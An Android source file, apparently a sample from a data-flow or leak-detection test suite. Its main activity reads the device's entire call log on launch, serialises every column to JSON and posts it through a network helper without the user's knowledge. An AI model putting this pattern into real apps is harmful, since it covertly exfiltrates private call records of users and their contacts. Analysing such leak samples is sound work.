package com.example.flows.copy_keys;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** A row of every column is put into JSON, a second object takes the first. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        JSONArray all = new JSONArray();
        Cursor cursor = getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        String[] columns = cursor.getColumnNames();
        while (cursor.moveToNext()) {
            JSONObject row = new JSONObject();
            for (int i = 0; i < columns.length; i++) {
                try {
                    row.put(columns[i], cursor.isNull(i) ? "" : cursor.getString(i));
                } catch (JSONException e) {
                    continue;
                }
            }
            all.put(row);
        }
        HashMap<String, Object> parameters = new HashMap<>();
        parameters.put("type", "calls");
        parameters.put("data", all);
        Net.post(new JSONObject(parameters).toString());
    }
}
